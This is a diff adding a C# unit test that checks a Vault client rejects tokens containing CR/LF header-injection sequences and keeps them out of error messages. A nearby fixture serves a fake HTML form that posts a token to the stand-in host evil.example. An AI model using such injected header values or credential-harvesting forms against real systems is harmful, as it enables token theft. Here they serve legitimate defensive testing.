@@ -133,6 +133,24 @@ public sealed class VaultInTheMiddleTests : IAsyncLifetime
         Assert.DoesNotContain(vault.Line.Seen, seen => seen.Path.EndsWith("?list=true", StringComparison.Ordinal));
     }
 
+    [Theory]
+    [InlineData("hvs.token\r\nX-Vault-Namespace: other")]
+    [InlineData("hvs.token\nX: y")]
+    [InlineData("hvs.töken")]
+    [InlineData("hvs. token")]
+    public async Task Token_that_would_begin_another_header_is_not_sent(string token)
+    {
+        using var secret = new Secret(System.Text.Encoding.UTF8.GetBytes(token));
+        await vault.Own().WriteAsync(SecretName.Parse("vault/credential"), secret, CancellationToken.None);
+        await using var client = vault.Client();
+
+        var e = await Assert.ThrowsAsync<VaultException>(() => ReadAsync(client));
+
+        Assert.Equal(VaultFault.Denied, e.Fault);
+        Assert.DoesNotContain("hvs", e.Message, StringComparison.Ordinal);
+        Assert.Empty(vault.Line.Seen);
+    }
+
     private static Func<HttpContext, Task<bool>> Attack(string kind) => kind switch
     {
         "html" => VaultLineOnLoopback.Answers(200, "<html><form action=https://evil.example>Token: <input></form></html>", "text/html"),
